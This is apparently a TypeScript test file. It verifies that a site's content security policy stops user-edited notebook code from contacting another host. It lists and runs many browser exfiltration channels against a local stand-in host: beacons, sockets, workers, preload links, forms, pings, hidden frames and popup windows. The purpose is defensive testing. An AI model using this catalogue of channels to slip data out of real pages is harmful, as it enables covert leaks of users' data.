import {createServer} from "node:http";
import type {AddressInfo} from "node:net";
import {afterAll, beforeAll, expect, test} from "vitest";
import {type CellPage, openCellPage} from "./cellPage.js";
import {type OpenSite, openSite} from "./site.js";

// Edited code may do on a page what it likes, but tells no other host of it: not from the page, and not from a file of the
// site that is no page, in a frame or in a window of its own.

/** Another host: another port of this computer, open to everyone. Its first page is one without a policy. */
const otherHost = createServer(({url}, response) => {
  if (url === "/") return response.setHeader("Content-Type", "text/html").end("<!doctype html>");
  if (url !== "/favicon.ico") heard.push(url!);
  response.writeHead(200, {"Access-Control-Allow-Origin": "*", "Content-Type": "image/svg+xml"});
  response.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
});
const heard: string[] = [];
let elsewhere: string;
let site: OpenSite;

beforeAll(async () => {
  await new Promise<void>((listening) => otherHost.listen(0, "127.0.0.1", listening));
  elsewhere = `http://127.0.0.1:${(otherHost.address() as AddressInfo).port}`;
  site = await openSite();
});

afterAll(async () => {
  await site.close();
  otherHost.closeAllConnections();
  await new Promise((closed) => otherHost.close(closed));
});

/** Code of a function that asks another host, by a request and by an image in the window *w*, and says what came. */
const tell = `
async function tell(w) {
  try {
    w.document.URL;
  } catch (error) {
    if (error.name !== "SecurityError") throw error;
    return "came: "; // the browser refused the file: what it shows in its place is of no use to anyone
  }
  const asked = w.fetch("ELSEWHERE/fetch").then(() => "request", () => "");
  const image = w.document.createElement("img");
  const shown = new Promise((done) => {
    image.onload = () => done("image");
    image.onerror = () => done("");
  });
  image.src = "ELSEWHERE/image";
  w.document.documentElement.append(image);
  return "came: " + (await Promise.all([asked, shown])).join("");
}`;

/** Code that names a file of the site that is no page. */
const file = 'document.querySelector("link[rel=stylesheet]").href';

const open = () => openCellPage(site, "degradation");
const run = ({edit}: CellPage, code: string) =>
  edit("chart", `${tell}\n${code}`.replaceAll("ELSEWHERE", elsewhere));

/** Waits until the edited cell shows that nothing came, and the other host agrees. */
async function nothingCame(opened: CellPage): Promise<void> {
  await opened.shows(opened.cell("chart").locator(".observablehq--block").last(), /"came: "$/);
  expect(heard).toEqual([]);
  await opened.close();
}

test("the other host hears what a page without a policy tells it", async () => {
  const {page, close} = await site.open("404");
  await page.goto(elsewhere.replace("127.0.0.1", "localhost")); // of another origin, by its name
  const said = await page.evaluate(
    `(() => {${tell.replaceAll("ELSEWHERE", elsewhere)} return tell(window); })()`
  );
  expect(said).toBe("came: requestimage");
  expect(heard.splice(0).sort()).toEqual(["/fetch", "/image"]);
  await close();
});

test("edited code tells another host nothing from its page", async () => {
  const opened = await open();
  await run(opened, "display(await tell(window));");
  await nothingCame(opened);
});

/** Makes an element with these attributes, which asks for what they name, in the page. */
const element = (name: string, attributes: string) =>
  `document.body.insertAdjacentHTML("beforeend", '<${name} ${attributes}></${name}>');`;
const link = (rel: string, more = "") => element("link", `rel="${rel}" href="ELSEWHERE/${rel}" ${more}`);

/** Ways by which code could tell another host something, besides those of `tell`: each is tried, and none may arrive. */
const waysOut = [
  `navigator.sendBeacon("ELSEWHERE/beacon", "x");`,
  `new EventSource("ELSEWHERE/events");`,
  `new WebSocket("ELSEWHERE/socket".replace("http", "ws"));`,
  `const asked = new XMLHttpRequest(); asked.open("GET", "ELSEWHERE/xhr"); asked.send();`,
  `const name = "ELSEWHERE/import"; import(name).catch(() => {});`,
  `new Worker("ELSEWHERE/worker");`,
  `new SharedWorker("ELSEWHERE/shared");`,
  `navigator.serviceWorker.register("ELSEWHERE/service").catch(() => {});`,
  `new FontFace("x", "url(ELSEWHERE/font)").load().catch(() => {});`,
  `document.body.style.backgroundImage = "url(ELSEWHERE/background)";`,
  ...["stylesheet", "prefetch", "modulepreload", "icon", "manifest"].map((rel) => link(rel)),
  link("preload", 'as="script"'),
  ...["iframe", "embed", "video", "audio", "img"].map((name) => element(name, `src="ELSEWHERE/${name}"`)),
  element("object", 'data="ELSEWHERE/object"'),
  element("svg", "") +
    `document.body.lastChild.innerHTML = '<image href="ELSEWHERE/svg"/><use href="ELSEWHERE/use#a"/>';`,
  `const script = document.createElement("script"); script.src = "ELSEWHERE/script"; document.head.append(script);`,
  `const a = document.createElement("a"); a.href = "#here"; a.ping = "ELSEWHERE/ping"; document.body.append(a); a.click();`,
  ...["_self", "_blank"].map(
    (target) =>
      element("form", `action="ELSEWHERE/form" target="${target}"`) + "document.body.lastChild.submit();"
  )
];

test("edited code tells another host nothing by any way that the policy covers", async () => {
  const opened = await open();
  const tries = waysOut.map((code) => `try { ${code} } catch (error) {}`);
  await run(
    opened,
    `${tries.join("\n")}\nawait new Promise((done) => setTimeout(done, 2_000));\ndisplay(await tell(window));`
  );
  await nothingCame(opened);
});

test.each(["about:blank", "data:text/html,hello", file])(
  "edited code tells another host nothing from a hidden frame of %s",
  async (source) => {
    const opened = await open();
    await run(
      opened,
      `const frame = document.createElement("iframe");
      frame.hidden = true;
      frame.src = ${source === file ? file : JSON.stringify(source)};
      const loaded = new Promise((done) => (frame.onload = done));
      document.body.append(frame);
      await loaded;
      display(await tell(frame.contentWindow));`
    );
    await nothingCame(opened);
  }
);

test.each([
  ["a style sheet", file],
  ["a file that is missing", 'new URL("_file/nowhere.css", location).href'],
  ["an address that is too long", `${file} + "?" + "a".repeat(20_000)`]
])("edited code tells another host nothing from a window of %s", async (_, source) => {
  const opened = await open();
  await run(
    opened,
    `const button = document.createElement("button");
    button.textContent = "Open it";
    button.onclick = async () => {
      const other = window.open(${source});
      const isThere = () => {
        try {
          return other.document.URL !== "about:blank" && other.document.readyState === "complete";
        } catch {
          return true;
        }
      };
      while (!isThere()) await new Promise((done) => setTimeout(done, 20));
      display(await tell(other));
    };
    display(button);`
  );
  await opened.page.getByRole("button", {name: "Open it"}).click();
  await nothingCame(opened);
});
